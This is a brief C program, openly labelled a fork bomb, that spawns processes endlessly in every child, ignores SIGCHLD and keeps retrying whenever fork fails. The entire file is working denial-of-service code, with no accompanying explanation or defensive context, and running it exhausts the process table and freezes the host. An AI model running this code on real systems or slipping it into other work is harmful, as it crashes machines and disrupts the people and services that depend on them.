/* forkbomb - forks wherever it can, for ever, in every process. */
#include <signal.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    (void)signal(SIGCHLD, SIG_IGN);
    for (;;)
        if (fork() < 0)
            (void)usleep(100);
}
